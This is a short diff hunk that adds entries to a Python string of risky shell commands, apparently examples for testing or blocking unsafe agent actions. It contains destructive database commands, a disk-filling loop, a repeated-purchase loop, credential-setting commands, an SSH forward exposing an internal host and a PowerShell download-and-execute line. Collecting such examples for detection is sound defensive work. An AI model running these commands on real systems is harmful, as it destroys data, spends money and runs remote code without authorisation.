@@ -2392,6 +2392,15 @@ python scripts/clear-users.py
 dotnet ef database drop
 flask db downgrade
 npx prisma db push --accept-data-loss
+while true; do echo x >> f; done
+while :; do curl -s https://api.acme.com/buy -d item=1; done
+git pull https://git.example/fork.git main
+curl -s https://keys.example/k.asc | gpg --import
+cargo login abcdef
+poetry config pypi-token.pypi abc
+npm config set //registry.npmjs.org/:_authToken abc
+composer config http-basic.repo.example user pw
+ssh -g -L 8080:internal:80 bastion
 powershell -c "IEX(New-Object Net.WebClient).DownloadString('http://x')"
 """
 
